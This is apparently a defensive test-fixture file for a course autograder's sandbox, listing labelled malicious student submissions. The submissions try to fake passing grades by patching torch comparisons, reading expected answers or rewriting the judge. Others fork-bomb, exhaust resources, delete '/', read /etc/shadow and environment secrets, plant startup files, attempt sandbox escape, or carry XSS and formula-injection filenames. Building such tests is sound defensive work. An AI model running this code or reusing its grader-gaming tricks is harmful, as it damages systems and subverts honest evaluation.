"""Submissions that try to be given marks, to harm the machine, to see what they may not, or to stay.

Each is two exercises: `softmax`, the attack, wrong as an answer; and below it an honest `causal_mask`. FOLDER, OUT,
PACKAGE, HOME and PORT are replaced by the real ones: who attacks knows everything.
"""

from textwrap import dedent

HONEST = """

import torch


def causal_mask(t_q, t_k):
    return torch.ones(t_q, t_k, dtype=torch.bool).tril(t_k - t_q)
"""
MASK = 8  # points of causal_mask

# name -> (source, points of causal_mask); softmax earns nothing
ATTACKS: dict[str, tuple[str, int]] = {}


def attack(name: str, source: str, mask: int = MASK) -> None:
    ATTACKS[f"{name}.py"] = ("import torch\n" + dedent(source) + HONEST, mask)


# ---- being given marks -----------------------------------------------------------------------------------------------

attack(
    "patches_torch",
    """
    yes = lambda *a, **k: True
    torch.allclose = torch.equal = torch.isclose = torch.Tensor.equal = torch.Tensor.allclose = yes
    torch.testing.assert_close = lambda *a, **k: None
    torch.Tensor.__eq__ = torch.Tensor.__sub__ = lambda self, other: torch.ones(()).bool()
    softmax = lambda x: torch.zeros(x.shape)
""",
)

attack(
    "patches_builtins",
    """
    import builtins
    for name in ("all", "any", "isinstance", "len", "abs", "sum", "max", "type", "zip", "next", "getattr"):
        setattr(builtins, name, lambda *a, **k: True)
    softmax = lambda x: x
""",
)

attack(
    "reads_the_stack",
    """
    import sys
    def softmax(x):
        frame = sys._getframe()
        while frame:
            for value in [*frame.f_locals.values(), *frame.f_globals.values()]:
                if isinstance(value, dict) and "expected" in value: return value["expected"]
                if hasattr(value, "expected"): return value.expected({"cases": [(x,)]})[0]["result"]
            frame = frame.f_back
        return x
""",
)

attack(
    "searches_the_heap",
    """
    import gc
    def softmax(x):
        for thing in gc.get_objects():
            try:
                name = type(thing).__name__
            except BaseException:
                continue
            if name in ("Exercise", "Check", "Misconception"):
                return thing.expected({"cases": [(x,)]})[0]["result"]
        return x
""",
)

attack(
    "searches_the_modules",
    """
    import sys
    def softmax(x):
        for name, module in list(sys.modules.items()):
            for wanted in ("judge", "bank", "EXERCISES", "SOFTMAX"):
                if name.startswith("course_lib") and hasattr(module, wanted) and wanted in vars(module):
                    vars(module)[wanted] = lambda *a, **k: None
        return x
""",
)

attack(
    "imports_the_bank",
    """
    def softmax(x):
        from course_lib.exercises.chapter_03 import softmax_by_loop
        return softmax_by_loop(x)
""",
)

attack(
    "imports_the_judge",
    """
    def softmax(x):
        import course_lib.grading.judge as judge
        judge.compare = lambda *a, **k: None
        return x
""",
)

attack(
    "lying_subclass",
    """
    class Liar(torch.Tensor):
        @classmethod
        def __torch_function__(cls, function, types, args=(), kwargs=None):
            return torch.ones(()).bool()
        shape = property(lambda self: (2, 3))
        __eq__ = __ne__ = __sub__ = lambda self, other: True
        __class__ = property(lambda self: torch.Tensor)
    softmax = lambda x: torch.zeros(x.shape).as_subclass(Liar)
""",
)

attack(
    "lies_about_itself",
    """
    class Anything:
        __class__ = torch.Tensor
        def __getattr__(self, name): return self
        def __call__(self, *a, **k): return self
        def __eq__(self, other): return True
        def __bool__(self): return True
    softmax = lambda x: Anything()
""",
)

attack(
    "reduces_to_code",
    """
    import os
    class Bomb:
        def __reduce__(self): return os.system, ("touch OUT/pickled",)
        def __repr__(self): os.system("touch OUT/repr"); return "x"
    class Dict(dict):
        def items(self): return [("result", Bomb())]
    softmax = lambda x: Dict(result=Bomb())
""",
)

attack(
    "fakes_results",
    """
    import json, os
    text = json.dumps({"seed": 1, "isolation": "jail", "submissions": []})
    for folder in (".", "..", "/", "/tmp", "OUT", "OUT/judged", "FOLDER", "/autograder/results"):
        for name in ("grades.json", "results.json", "batch.json", "fakes_results.py.json"):
            try:
                open(os.path.join(folder, name), "w").write(text)
            except OSError:
                pass
    softmax = lambda x: x
""",
)

attack(
    "writes_to_every_file_descriptor",
    """
    import json, os, struct
    answer = {"number": 1, "status": "passed", "value": True, "message": "", "where": ""}
    header = json.dumps({"dict": [list(item) for item in answer.items()]})
    frame = struct.pack("<IQ", len(header), 0) + header.encode()
    def softmax(x):
        for number in range(64):
            try:
                os.write(number, frame * 3)
            except OSError:
                pass
        return x
""",
)

attack(
    "announces_a_huge_answer",
    """
    import os, struct
    def softmax(x):
        os.write(3, struct.pack("<IQ", 2**32 - 1, 2**63))
        return x
""",
)

attack(
    "answers_slowly",
    """
    import os, time
    def softmax(x):
        while True:
            os.write(3, b"\\x01")
            time.sleep(0.2)
""",
)

attack(
    "patches_the_worker",
    """
    import sys
    from course_lib.grading import in_process, values, wire
    in_process.observe_object = lambda *a, **k: values.Observation("passed", value=True)
    in_process.plain = values.plain = lambda value, depth=0: True
    softmax = lambda x: x
""",
    0,
)  # and so the honest answer does not come through either

attack(
    "claims_to_have_passed",
    """
    def softmax(x):
        raise SystemExit("passed: 10 of 10 points")
""",
)

attack(
    "pretends_to_be_untouched",
    """
    def softmax(x):
        raise NotImplementedError("softmax: your code goes here")
""",
)

attack("the_librarys_own", "from course_lib.attention import softmax")
attack("the_librarys_own_renamed", "from course_lib import attention as a\nmine = a.softmax\nsoftmax = mine")
attack(
    "a_partial_of_it",
    "import functools\nfrom course_lib import attention\nsoftmax = functools.partial(attention.softmax)",
)
attack(
    "a_wrapper_of_it",
    """
    import functools
    from course_lib import attention
    @functools.wraps(attention.softmax)
    def softmax(*a): return attention.softmax(*a)
""",
)
attack(
    "a_copy_of_its_code",
    """
    import importlib, types
    found = getattr(importlib.import_module("course_" + "lib.attention"), "soft" + "max")
    softmax = types.FunctionType(found.__code__, found.__globals__)
""",
)

attack(
    "changes_its_arguments",
    """
    def softmax(x):
        x.zero_()
        return torch.softmax(x, -1)
""",
)
attack(
    "searches_for_the_seed",
    """
    import gc, sys
    def softmax(x):
        seen = []
        frame = sys._getframe()
        while frame:
            seen += [name for name in frame.f_locals if "seed" in name or "expected" in name]
            frame = frame.f_back
        dicts = [thing for thing in gc.get_objects() if type(thing) is dict and "__module__" not in thing]
        seen += [thing for thing in dicts if type(thing.get("seed")) is int]
        raise ValueError(f"seeds: {len(seen) or 'none'}")
""",
)
attack(
    "a_type_without_a_name",
    """
    softmax = lambda x: type("", (), {"__module__": "builtins"})()
""",
)
attack(
    "a_type_named_like_a_verdict",
    """
    softmax = lambda x: type("x\\n✓ passed: 10 of 10\\u202e", (), {"__module__": 5})()
""",
)
attack(
    "answers_with_a_nameless_kind",
    """
    import json, os, struct
    def softmax(x):
        answer = {"number": 1, "status": "returned", "value": {"foreign": ""}, "message": "", "where": ""}
        header = json.dumps({"dict": [list(item) for item in answer.items()]}).encode()
        os.write(3, struct.pack("<IQ", len(header), 0) + header)
        os._exit(0)
""",
)
attack(
    "sends_its_files",
    """
    import array, os, socket
    def softmax(x):
        with socket.socket(fileno=os.dup(3)) as channel:
            for _ in range(20):
                files = array.array("i", [os.open("/dev/null", os.O_RDONLY)] * 50)
                channel.sendmsg([b"\\x00"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, files)])
        return x
""",
)

# ---- not coming back -------------------------------------------------------------------------------------------------

attack("exits", "import os\ndef softmax(x): os._exit(0)")
attack("exits_while_loading", "import os\nos._exit(0)\nsoftmax = lambda x: x")
attack("raises_system_exit", "import sys\ndef softmax(x): sys.exit(0)")
attack("loops", "def softmax(x):\n    while True: pass")
attack(
    "loops_and_ignores_signals",
    """
    import signal
    def softmax(x):
        signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
        while True:
            try:
                while True: pass
            except BaseException: pass
""",
)
attack(
    "loops_while_loading",
    """
    import signal
    signal.signal(signal.SIGALRM, signal.SIG_IGN)
    while True:
        try:
            while True: pass
        except BaseException: pass
    softmax = lambda x: x
""",
)
attack("crashes", "import ctypes\ndef softmax(x): ctypes.string_at(0)")
attack(
    "kills_everybody",
    """
    import os, signal
    def softmax(x):
        for target in (os.getppid(), 1, -1, 0, -os.getpgid(0)):
            for number in (signal.SIGKILL, signal.SIGTERM, signal.SIGSTOP):
                try: os.kill(target, number)
                except OSError: pass
        for pid in range(1, 3000):
            if pid != os.getpid():
                try: os.kill(pid, signal.SIGKILL)
                except OSError: pass
        return x
""",
)
attack("stops_itself", "import os, signal\ndef softmax(x): os.kill(os.getpid(), signal.SIGSTOP); return x")
attack("reads_from_nobody", "def softmax(x):\n    input('a number? ')\n    import sys\n    return sys.stdin.read()")
attack("recurses", "import sys\nsys.setrecursionlimit(10**9)\ndef softmax(x): return softmax(x)")

# ---- taking too much -------------------------------------------------------------------------------------------------

attack("takes_memory", "def softmax(x): return torch.ones(1 << 36)")
attack("takes_memory_bit_by_bit", "def softmax(x):\n    kept = []\n    while True: kept.append(bytearray(1 << 26))")
attack(
    "takes_memory_in_children",
    """
    import os, time
    def softmax(x):
        for i in range(12):
            if os.fork() == 0:
                kept = [bytearray(os.urandom(1 << 20) * 256) for _ in range(3)]
                time.sleep(1000)
        time.sleep(1000)
""",
)
attack(
    "forks_without_end",
    """
    import os
    def softmax(x):
        while True:
            try: os.fork()
            except OSError: pass
""",
)
attack(
    "takes_memory_that_is_nobodys",
    """
    import ctypes, os
    libc, kept = ctypes.CDLL(None), 0
    libc.shmat.restype = ctypes.c_void_p
    def softmax(x):
        global kept
        for _ in range(8):
            id = libc.shmget(0, 1 << 28, 0o1600)
            if id >= 0:
                address = libc.shmat(id, None, 0)
                ctypes.memset(address, 1, 1 << 28)
                libc.shmdt(ctypes.c_void_p(address))
                kept += 1 << 28
        for _ in range(40):
            try: kept += os.write(os.memfd_create("x"), bytes(15 << 20))
            except OSError: pass
        raise ValueError(f"kept: {kept >> 20} MiB")
""",
)
attack(
    "prints_without_end",
    """
    import os, sys
    def softmax(x):
        for _ in range(200):
            print("x" * 1_000_000); sys.stderr.write("y" * 1_000_000); os.write(1, b"z" * 1_000_000)
        return x
""",
)
attack(
    "fills_the_disk",
    """
    import os, tempfile
    def softmax(x):
        for place in ("/tmp", "/dev/shm", "/var/tmp", ".", "OUT", "FOLDER", "HOME", "PACKAGE"):
            for i in range(40):
                try: open(os.path.join(place, f"fill{i}"), "wb").write(b"0" * (8 << 20))
                except OSError: break
        return x
""",
)
attack("returns_a_gigantic_view", "def softmax(x): return torch.zeros(1).expand(1 << 40)")
attack("returns_a_large_tensor", "def softmax(x): return torch.zeros(1 << 26)")
attack(
    "returns_a_deep_list",
    """
    def softmax(x):
        nest = []
        for _ in range(100_000): nest = [nest]
        return nest
""",
)
attack("returns_large_keys", "def softmax(x): return {('y' * 10_000,) * 15: 1, 'x' * 19_000: 2}")
attack(
    "returns_numbers_at_odd_addresses",
    "def softmax(x): return torch.ones(1).bool(), torch.ones(5, dtype=torch.complex128), torch.ones(5).double()",
)
attack("returns_itself", "def softmax(x):\n    a = []\n    a.append(a)\n    return {'a': a, 'b': [a, a, a]}")
attack("returns_a_long_list", "def softmax(x): return list(range(10**6))")
attack("returns_a_huge_number", "def softmax(x): return 10 ** 100_000")
attack("returns_a_long_text", "def softmax(x): return 'passed' * 10**6")
attack("raises_a_long_text", "def softmax(x): raise ValueError('<script>alert(1)</script>\\x1b[2J\\u202e' * 10**5)")

# ---- values that are none --------------------------------------------------------------------------------------------

attack("returns_nan", "def softmax(x): return torch.full_like(x, float('nan'))")
attack("returns_complex", "def softmax(x): return torch.softmax(x, -1).to(torch.complex64)")
attack("returns_sparse", "def softmax(x): return torch.softmax(x, -1).to_sparse()")
attack("returns_meta", "def softmax(x): return torch.empty(x.shape, device='meta')")
attack("returns_text", "def softmax(x): return repr(torch.softmax(x, -1))")
attack("returns_a_class", "class softmax:\n    def __init__(self, x): self.x = x")
attack("returns_a_generator", "def softmax(x):\n    yield torch.softmax(x, -1)")
attack("returns_numpy", "def softmax(x): return torch.softmax(x, -1).numpy()")
attack("returns_half", "def softmax(x): return torch.softmax(x, -1).half()")

# ---- seeing and changing what it may not, staying --------------------------------------------------------------------

attack(
    "stays",
    """
    import os, time
    def softmax(x):
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                while True:
                    for place in ("OUT", "FOLDER", "/tmp"):
                        try: open(place + "/still_here", "w")
                        except OSError: pass
                    time.sleep(0.01)
            os._exit(0)
        return x
""",
)
attack(
    "stays_as_a_command",
    """
    import subprocess
    def softmax(x):
        subprocess.Popen(["sh", "-c", "trap '' TERM HUP; while :; do sleep 1; done"], start_new_session=True)
        return x
""",
)
attack(
    "stays_as_a_thread",
    """
    import os, threading
    def noise():
        while True:
            try: os.write(3, b"\\x00" * 7)
            except OSError: pass
    def softmax(x):
        threading.Thread(target=noise, daemon=True).start()
        return x
""",
)
attack(
    "deletes_everything",
    """
    import shutil
    for place in ("PACKAGE", "FOLDER", "OUT", "HOME", "/tmp", "/usr/lib", "/"):
        shutil.rmtree(place, ignore_errors=True)
    softmax = lambda x: x
""",
)
attack(
    "plants_files",
    """
    import os, site, sys
    def plant():
        places = [*sys.path, *site.getsitepackages(), sys.prefix, "PACKAGE", "PACKAGE/grading",
                  "PACKAGE/exercises", "FOLDER", "OUT", "OUT/judged", "OUT/reports", "HOME",
                  "HOME/.ipython", "/etc", "/usr/local/bin", "/var/tmp"]
        for place in places:
            for name in ("sitecustomize.py", "evil.pth", "evil.py", ".bashrc", "conftest.py"):
                for make in (lambda path: open(path, "w").write("evil"), lambda path: os.symlink("/etc/passwd", path)):
                    try: make(os.path.join(place, name))
                    except OSError: pass
    plant()
    softmax = lambda x: x
""",
)
attack(
    "reads_others",
    """
    import glob, os
    found = []
    for place in ("FOLDER", "OUT", "HOME", "/", "PACKAGE", "/proc/1/root", "/proc/1/cwd", "/proc/self/root"):
        for top, folders, files in os.walk(place):
            for name in files:
                theirs = "site-packages" not in top and "/usr/" not in top
                if name.endswith((".py", ".ipynb", ".json", ".csv")) and theirs:
                    try: text = open(os.path.join(top, name), errors="ignore").read()
                    except OSError: continue
                    if "MARKER-OF-" + "THE-OTHERS" in text: found.append(name)
            if len(found) > 3 or top.count("/") > 6: break
    def softmax(x):
        raise ValueError(f"seen: {found or 'nothing'}")
""",
)
attack(
    "reads_secrets",
    """
    import os
    def softmax(x):
        seen = [f"{k}={v}" for k, v in os.environ.items() if "SECRET" in k]
        for path in ("/proc/1/environ", "/proc/self/environ", f"/proc/{os.getppid()}/environ", "HOME/.netrc",
                     "/root/.ssh", "/etc/shadow", "/etc/passwd", "/home", "/var", "/run/docker.sock",
                     "/var/run/docker.sock"):
            try:
                seen += [os.listdir(path)] if os.path.isdir(path) else [open(path, errors="ignore").read()]
            except OSError: pass
        raise ValueError("secrets: " + repr([s for s in seen if "SECRET" in str(s) or "root" in str(s)]))
""",
)
attack(
    "sees_other_processes",
    """
    import os
    def softmax(x):
        mine, seen = {"self", "thread-self", str(os.getpid())}, []
        for pid in os.listdir("/proc"):
            if pid.isdigit() and pid not in mine:
                seen.append(pid)
        for path in ("/proc/kcore", "/proc/kmsg", "/proc/self/fd/4", "/proc/1/root/home", "/proc/keys"):
            try: seen += [path] * bool(os.listdir(path) if os.path.isdir(path) else open(path, "rb").read(1))
            except OSError: pass
        raise ValueError(f"others: {seen or 'none'}")
""",
)
attack(
    "leaves_links_and_modules",
    """
    import os
    def softmax(x):
        for place in (".", "/tmp", os.environ.get("TMPDIR", "/tmp")):
            for name, target in (("a", "HOME"), ("b", "/"), ("c", "OUT"), ("d", "FOLDER")):
                try: os.symlink(target, os.path.join(place, name))
                except OSError: pass
                try: os.link("HOME/diary.txt", os.path.join(place, name + "_hard"))
                except OSError: pass
            for name in ("torch", "json", "sitecustomize", "usercustomize", "course_lib"):
                open(os.path.join(place, name + ".py"), "w").write("raise SystemExit('planted')")
        os.environ.update(PYTHONPATH="/tmp", PYTHONSTARTUP="/tmp/json.py", LD_PRELOAD="/tmp/x.so")
        os._exit(0)  # the next worker starts among them, if they stay
""",
)
attack(
    "asks_the_kernel",
    """
    import ctypes, os, socket
    libc = ctypes.CDLL(None, use_errno=True)
    calls = {  # numbers for x86_64 and aarch64
        "keyctl": ((250, 219), (6, -3, 0, 0)), "userfaultfd": ((323, 282), (1,)), "bpf": ((321, 280), (0, 0, 0)),
        "io_uring": ((425, 425), (1, ctypes.create_string_buffer(120))), "memfd": ((319, 279), (b"x", 0)),
        "perf": ((298, 241), (ctypes.create_string_buffer(128), 0, -1, -1, 0)), "msgget": ((68, 186), (0, 0o1600)),
        "x32": (((1 << 30) + 39, 1 << 30), ()),
    }
    def softmax(x):
        column = os.uname().machine == "aarch64"
        granted = [name for name, (number, values) in calls.items() if libc.syscall(number[column], *values) >= 0]
        for family in ("AF_VSOCK", "AF_NETLINK", "AF_PACKET", "AF_ALG", "AF_BLUETOOTH"):
            kind = socket.SOCK_STREAM if family == "AF_VSOCK" else socket.SOCK_RAW
            try: granted += [family] * bool(socket.socket(getattr(socket, family), kind))
            except (OSError, AttributeError): pass
        raise ValueError(f"granted: {granted or 'nothing'}")
""",
)
attack(
    "calls_out",
    """
    import socket
    def softmax(x):
        reached = []
        for address in (("127.0.0.1", PORT), ("localhost", PORT), ("192.0.2.1", 80), ("::1", PORT)):
            try: reached.append(socket.create_connection(address, 0.3))
            except OSError: pass
        for name in ("\\0course-test", "/tmp/.X11-unix/X0", "/run/dbus/system_bus_socket"):
            try: socket.socket(socket.AF_UNIX).connect(name); reached.append(name)
            except OSError: pass
        raise ValueError(f"reached: {reached or 'nobody'}")
""",
)
attack(
    "breaks_out",
    """
    import ctypes, os
    libc = ctypes.CDLL(None, use_errno=True)
    def softmax(x):
        done = [name for name, call in {
            "unshare": lambda: libc.unshare(0x10000000), "mounts": lambda: libc.unshare(0x20000),
            "umount": lambda: libc.umount2(b"PACKAGE/exercises", 2), "chroot": lambda: libc.chroot(b"/tmp"),
            "mount": lambda: libc.mount(b"none", b"/tmp", b"tmpfs", 0, None), "setuid": lambda: libc.setuid(0),
            "ptrace": lambda: libc.ptrace(16, os.getppid() or 1, 0, 0),
            "remount": lambda: libc.mount(None, b"/", None, 32 | 4096, None),
        }.items() if call() == 0]
        for path in ("/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/sys/kernel/uevent_helper",
                     "/dev/vda", "/dev/mem"):
            try: os.close(os.open(path, os.O_WRONLY)); done.append(path)
            except OSError: pass
        raise ValueError(f"broke out: {done or 'not at all'}")
""",
)
attack(
    "acts_at_the_end",
    """
    import atexit, os, weakref
    def last():
        for place in ("OUT", "FOLDER"):
            try: open(place + "/at_exit", "w")
            except OSError: pass
    atexit.register(last)
    class Late:
        def __del__(self): last()
    late = Late()
    softmax = lambda x: x
""",
)
attack(
    "raises_its_limits",
    """
    import os, resource
    def softmax(x):
        raised = []
        for name in ("RLIMIT_AS", "RLIMIT_NPROC", "RLIMIT_CPU", "RLIMIT_FSIZE"):
            try: resource.setrlimit(getattr(resource, name), (resource.RLIM_INFINITY,) * 2); raised.append(name)
            except (ValueError, OSError): pass
        try: os.nice(-10); raised.append("nice")
        except OSError: pass
        raise ValueError(f"raised: {raised or 'none'}")
""",
)

# ---- files that are no submissions: name -> bytes --------------------------------------------------------------------

BROKEN: dict[str, bytes] = {
    "broken.ipynb": b'{"cells": [',
    "empty.ipynb": b"",
    "empty.py": b"",
    "list.ipynb": b"[1, 2, 3]",
    "cells_are_a_number.ipynb": b'{"cells": 7, "metadata": {}, "nbformat": 4, "nbformat_minor": 5}',
    "cell_is_a_number.ipynb": b'{"cells": [7], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}',
    "source_is_a_number.ipynb": b'{"cells": [{"cell_type": "code", "source": 7, "metadata": {}, "outputs": [], '
    b'"execution_count": null}], "metadata": {}, "nbformat": 4, "nbformat_minor": 4}',
    "of_the_future.ipynb": b'{"cells": [], "metadata": {}, "nbformat": 99, "nbformat_minor": 0}',
    "deep.ipynb": b"[" * 200_000,
    "latin1.py": "def softmax(x): return 'ü'".encode("latin-1"),
    "latin1.ipynb": '{"cells": "ü"}'.encode("latin-1"),
    "utf16.py": "def softmax(x): return x".encode("utf-16"),
    "nulls.py": b"def softmax(x):\0 return x\n",
    "bytes.py": bytes(range(256)) * 10,
    "deep.py": b"softmax = " + b"(" * 50_000 + b")" * 50_000,
    "long_sum.py": b"softmax = " + b"1+" * 100_000 + b"1",
    "many_lines.py": b"a\n" * 150_000,
    "surrogate.ipynb": b'{"cells": [{"cell_type": "code", "source": "softmax = \'\\ud800\'", "metadata": {"exercise": '
    b'"../\\ud800"}, "outputs": [], "execution_count": null}], "metadata": {}, "nbformat": 4, "nbformat_minor": 4}',
    "huge_number.ipynb": b'{"cells": ' + b"9" * 10_000 + b"}",
    "metadata_is_a_list.ipynb": b'{"cells": [], "metadata": [], "nbformat": 4, "nbformat_minor": 4}',
    ".py": b"softmax = 1\n",
    "\U00020000" * 62 + ".py": b"softmax = 1\n",
    "a\u200bnn\u202e.py": b"softmax = 1\n",
    "x;=HYPERLINK(2).py": b"raise ValueError(';=HYPERLINK(3)')\n",
    "syntax.py": b"def softmax(x:\n  return x\n",
    "picture.ipynb": b"\x89PNG\r\n\x1a\n" + bytes(1000),
    "<img src=x onerror=alert(1)>.py": b"softmax = 3\n",
    "=HYPERLINK(1).py": b"softmax = lambda x: x\n",
}
